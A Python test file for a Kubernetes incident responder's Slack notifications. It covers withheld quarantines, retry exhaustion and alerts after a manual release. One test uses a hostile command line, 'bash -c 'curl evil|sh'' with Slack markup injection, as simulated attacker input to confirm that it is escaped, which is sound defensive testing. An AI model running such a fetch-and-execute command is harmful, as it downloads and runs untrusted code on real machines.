"""What Slack tells on-call to do next (the on-call review's H1, H2, M2): a quarantine withheld
while the API is down offers the command to take it by hand and says the responder tries again;
when its last automatic try finds it still withheld, the thread (and the channel) is told that
nothing more is tried. Against the Kubernetes emulator and the Slack sink, over loopback HTTP."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from responder.cli import main
from simulators.seed import SeededPod
from simulators.slack_sink import SlackSink, block_problems
from tests.notify.slack_fixtures import visible_text
from tests.responder.test_by_hand_in_slack import cli_config, incident_of, incident_post
from tests.responder.test_lapse_notice import headline
from tests.responder.test_notifications import Seeded, incident_posts, settle, shell, sink, start
from tests.responder.test_pipeline import labels, rows
from tests.responder.test_retry_withheld import LABEL, api_down, retries, retry_replies, wait_for
from tests.responder.test_workload_threads import posts, replica, submit, top_level

__all__ = ["sink"]  # the fixture, used by name


async def test_a_withheld_quarantine_offers_the_command_and_says_it_is_tried_again(
    tmp_path: Path, seeded: Seeded, sink: SlackSink
) -> None:
    running, pods, _ = seeded
    vllm = pods["vllm"]
    api_down(running)
    # The first try long after the test: the post as it reads while tries remain.
    responder = await start(tmp_path, seeded, sink, extra={"dedupe": {"retry_withheld_seconds": [600]}})
    try:
        await submit(responder, shell(vllm, 0))
        await settle(responder, lambda: len(incident_posts(sink)) == 1)
        (post,) = incident_posts(sink)
        (incident,) = rows(responder.config, "SELECT incident_id FROM incidents")
        assert ":pause_button: *quarantine withheld*, because:\n• pod lookup failed" in headline(post)
        assert headline(post).endswith(
            ":arrows_counterclockwise: The responder tries it again by itself over the next minutes"
            " (`dedupe.retry_withheld_seconds`), and a repeat of this alert does too; or quarantine it"
            " by hand with the command below."
        )
        text = visible_text(post.blocks)
        assert "*To quarantine it by hand* once you have looked" in text
        assert (
            f"serving-guard quarantine --namespace {vllm.namespace} {vllm.name}"
            f" --incident {incident['incident_id']}"
        ) in text
    finally:
        await responder.stop()


async def test_the_last_automatic_try_still_withheld_is_told_with_the_command_by_hand(
    tmp_path: Path, seeded: Seeded, sink: SlackSink
) -> None:
    running, pods, _ = seeded
    vllm = pods["vllm"]
    api_down(running)
    responder = await start(tmp_path, seeded, sink, extra={"dedupe": {"retry_withheld_seconds": [0.2, 0.2]}})
    try:
        await submit(responder, shell(vllm, 0))
        await wait_for(lambda: retries(responder, "withheld") == 2)
        await settle(responder, lambda: len(retry_replies(sink)) == 1)
        (incident,) = rows(responder.config, "SELECT incident_id FROM incidents")
        incident_id = incident["incident_id"]
        command = (
            f"serving-guard quarantine --namespace {vllm.namespace} {vllm.name} --incident {incident_id}"
        )

        # Journaled under the incident as the last try's, and told once.
        statuses = rows(responder.config, "SELECT action, status FROM actions ORDER BY id")
        assert [tuple(r) for r in statuses] == [("quarantine", "withheld")] * 2
        # The sink stores the reply before it answers; the journal says "sent" once the answer is read.
        told = "SELECT state FROM notifications WHERE kind = 'retry'"
        await settle(responder, lambda: [r[0] for r in rows(responder.config, told)] == ["sent"])

        # In the incident's thread, shown in the channel, with the command to act by hand.
        (reply,) = retry_replies(sink)
        (post,) = incident_posts(sink)
        assert reply.thread_ts == post.ts
        text = visible_text(reply.blocks)
        assert text.startswith(
            f":pause_button: *Still withheld* on `{vllm.namespace}/{vllm.name}` after it was tried again"
            " automatically 2 times: pod lookup failed: GET"
            f" /api/v1/namespaces/{vllm.namespace}/pods/{vllm.name}: HTTP 503: injected fault.\n"
            "*Nothing more is tried* unless the alert repeats: the pod is *not* isolated.\n"
            "*To quarantine it by hand* once you have looked"
        ), text
        assert command in text
        (sent,) = [p for p in posts(sink) if "retry" in str(p.get("metadata"))]
        assert sent.get("reply_broadcast") in (True, "true", "1")

        # The post is rendered again: the tries are over, the command stays.
        over = (
            ":arrows_counterclockwise: The responder tried it again by itself 2 times, still withheld:"
            " *nothing more is tried* unless this alert repeats. Quarantine it by hand with the command"
            " below."
        )
        await settle(responder, lambda: headline(incident_posts(sink)[0]).endswith(over))
        assert command in visible_text(incident_posts(sink)[0].blocks)
        await asyncio.sleep(0.5)  # past another wait: no third try, nothing more told
        assert retries(responder, "withheld") == 2 and len(retry_replies(sink)) == 1
        assert LABEL not in labels(running, vllm)
    finally:
        await responder.stop()


async def released_by_hand(tmp_path: Path, seeded: Seeded, pod: SeededPod, incident_id: str) -> None:
    """`serving-guard release --incident` as Slack gives it, by bob."""
    argv = [
        "release",
        "-n",
        pod.namespace,
        pod.name,
        "--reason",
        "false positive, it was me",
        "--by",
        "bob",
        "--incident",
        incident_id,
        "--config",
        str(cli_config(tmp_path, seeded[2])),
    ]
    assert await asyncio.to_thread(main, argv) == 0


def after_release_replies(sink: SlackSink, thread_ts: str) -> list[Any]:
    """The thread's replies (as they read now) telling that the pod still alerts after its release."""
    return [
        r
        for r in sink.replies("#sec-alerts", thread_ts)
        if visible_text(r.blocks).startswith(":rotating_light: *Still alerting after its release*")
    ]


def after_release_posts(sink: SlackSink) -> list[dict[str, Any]]:
    """The repeat replies posted for a repeat after a release (not the counter's edits)."""
    return [p for p in posts(sink) if "Still alerting after its release" in str(p.get("blocks"))]


async def test_the_first_repeat_after_a_release_is_told_in_the_channel_with_its_command_line(
    tmp_path: Path, seeded: Seeded, sink: SlackSink, capsys: pytest.CaptureFixture[str]
) -> None:
    running, pods, _ = seeded
    vllm = pods["vllm"]
    responder = await start(tmp_path, seeded, sink)  # the policy quarantines
    try:
        post = await incident_post(responder, sink, vllm)
        incident_id = incident_of(responder)
        await released_by_hand(tmp_path, seeded, vllm, incident_id)
        capsys.readouterr()
        # The running responder has learned the release (its post leads with it).
        await settle(responder, lambda: ":unlock:" in str(incident_posts(sink)[0].blocks))
        assert after_release_posts(sink) == []

        # The attack goes on, with a command line meant to ping and to format.
        hostile = "bash -c 'curl evil|sh' <!channel> *bold* <https://x.test|click>"
        await submit(responder, shell(vllm, 1, **{"proc.cmdline": hostile}))
        await settle(responder, lambda: len(after_release_posts(sink)) == 1)
        (sent,) = after_release_posts(sink)
        assert sent["thread_ts"] == post.ts
        assert sent.get("reply_broadcast") in (True, "true", "1")
        (reply,) = after_release_replies(sink, post.ts)
        text = visible_text(reply.blocks)
        assert text.startswith(
            f":rotating_light: *Still alerting after its release*: `{vllm.namespace}/{vllm.name}` was"
            " released by *bob* at "
        ), text
        assert "It is *not* quarantined again by itself" in text
        assert (
            f"serving-guard quarantine --namespace {vllm.namespace} {vllm.name} --incident {incident_id}"
            in (text)
        )
        # Its command line is shown, escaped as the post's are: no ping, no link.
        assert "curl evil|sh" in text
        assert "<!channel>" not in text and "<https://" not in text
        assert block_problems(list(reply.blocks)) == []

        assert "Seen *2 times*" in text

        # Later repeats are counted in that reply (an edit), not told again; nothing quarantines
        # the pod by itself.
        await submit(responder, shell(vllm, 2, **{"proc.cmdline": "bash -c 'curl evil|sh' #2"}))

        def counted() -> str:
            (latest,) = after_release_replies(sink, post.ts)
            return visible_text(latest.blocks)

        await settle(responder, lambda: "Seen *3 times*" in counted())
        await asyncio.sleep(0.3)
        assert len(after_release_posts(sink)) == 1
        assert LABEL not in labels(running, vllm)
    finally:
        await responder.stop()


async def test_with_no_automatic_tries_the_post_promises_none(
    tmp_path: Path, seeded: Seeded, sink: SlackSink
) -> None:
    """dedupe.retry_withheld_seconds: [] is accepted: nothing is tried by itself, and the post said
    it would be."""
    running, pods, _ = seeded
    api_down(running)
    responder = await start(tmp_path, seeded, sink, extra={"dedupe": {"retry_withheld_seconds": []}})
    try:
        await submit(responder, shell(pods["vllm"], 0))
        await settle(responder, lambda: len(incident_posts(sink)) == 1)
        assert headline(incident_posts(sink)[0]).endswith(
            ":arrows_counterclockwise: A repeat of this alert decides it again (the responder does not try"
            " it by itself: `dedupe.retry_withheld_seconds` is empty, as it is for `serving-guard ingest`);"
            " or quarantine it by hand with the command below."
        )
    finally:
        await responder.stop()


async def test_a_try_whose_next_would_end_past_the_window_is_the_last(
    tmp_path: Path, seeded: Seeded, sink: SlackSink, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Waits that fit the window (0.3 s x 3 < 1.2 s), lookups that take time (an API that times
    out): the third try came past the window and was dropped, so "nothing more is tried" never
    came and the post kept saying the tries went on."""
    running, pods, _ = seeded
    api_down(running)
    extra = {"dedupe": {"window_seconds": 1.2, "retry_withheld_seconds": [0.3, 0.3, 0.3]}}
    responder = await start(tmp_path, seeded, sink, extra=extra)
    assert responder.pipeline is not None
    pod_check = responder.pipeline._pod_check
    verify = pod_check.verify

    async def slow_verify(*args: Any, **kwargs: Any) -> Any:  # each lookup as slow as a timeout
        await asyncio.sleep(0.15)
        return await verify(*args, **kwargs)

    monkeypatch.setattr(pod_check, "verify", slow_verify)
    try:
        await submit(responder, shell(pods["vllm"], 0))
        await settle(responder, lambda: len(retry_replies(sink)) == 1, timeout=10)
        told = visible_text(retry_replies(sink)[0].blocks)
        assert "*Nothing more is tried* unless the alert repeats" in told
        await settle(responder, lambda: "*nothing more is tried*" in headline(incident_posts(sink)[0]))
    finally:
        await responder.stop()


async def test_in_a_workload_thread_the_reply_after_a_release_promises_no_count_it_does_not_keep(
    tmp_path: Path, seeded: Seeded, sink: SlackSink
) -> None:
    """There the incident's own reply counts the repeats: the reply after the release said "later
    repeats are counted here" and stayed at its first count."""
    running, pods, kubeconfig = seeded
    vllm = pods["vllm"]
    sibling = replica(running, vllm, "vllm-1")
    responder = await start(tmp_path, seeded, sink, thread_by_workload=True)
    try:
        await submit(responder, shell(vllm))
        await settle(responder, lambda: len(incident_posts(sink)) == 1)
        await submit(responder, shell(sibling))  # its incident: a reply in vllm-0's thread
        await settle(responder, lambda: len(sink.replies("#sec-alerts", top_level(sink)[0].ts)) == 1)
        root = top_level(sink)[0]
        incident = rows(responder.config, f"SELECT incident_id FROM incidents WHERE pod = '{sibling.name}'")
        release = ["release", "-n", sibling.namespace, sibling.name, "--reason", "mine", "--by", "bob"]
        where = ["--incident", incident[0]["incident_id"], "--config", str(cli_config(tmp_path, kubeconfig))]
        assert await asyncio.to_thread(main, [*release, *where]) == 0
        # The responder learns of the release from its journal (told in the thread) first.
        await settle(
            responder,
            lambda: any("released" in visible_text(r.blocks) for r in sink.replies("#sec-alerts", root.ts)),
        )
        await submit(responder, shell(sibling, 1))

        def after_release() -> list[str]:
            texts = [visible_text(r.blocks) for r in sink.replies("#sec-alerts", root.ts)]
            return [t for t in texts if t.startswith(":rotating_light: *Still alerting after its release*")]

        await settle(responder, lambda: len(after_release()) == 1)
        (told,) = after_release()
        assert "It is *not* quarantined again by itself." in told
        assert "later repeats are counted here" not in told
    finally:
        await responder.stop()


async def test_after_a_restart_tries_that_were_over_are_not_begun_again(
    tmp_path: Path, seeded: Seeded, sink: SlackSink
) -> None:
    """The try count lived in memory: a restart began a new round under a post saying "nothing more
    is tried", whose last reply then counted only that round."""
    running, pods, _ = seeded
    api_down(running)
    quick = {"dedupe": {"retry_withheld_seconds": [0.2]}}
    first = await start(tmp_path, seeded, sink, extra=quick)
    try:
        await submit(first, shell(pods["vllm"], 0))
        await settle(first, lambda: len(retry_replies(sink)) == 1)
    finally:
        await first.stop()
    again = await start(tmp_path, seeded, sink, extra=quick)
    try:
        assert again.pipeline is not None and not again.pipeline._retries  # none scheduled
        await asyncio.sleep(0.6)  # past any restored wait (0.2 s, spread up to twice)
        assert retries(again, "withheld") == 0 and len(retry_replies(sink)) == 1
    finally:
        await again.stop()
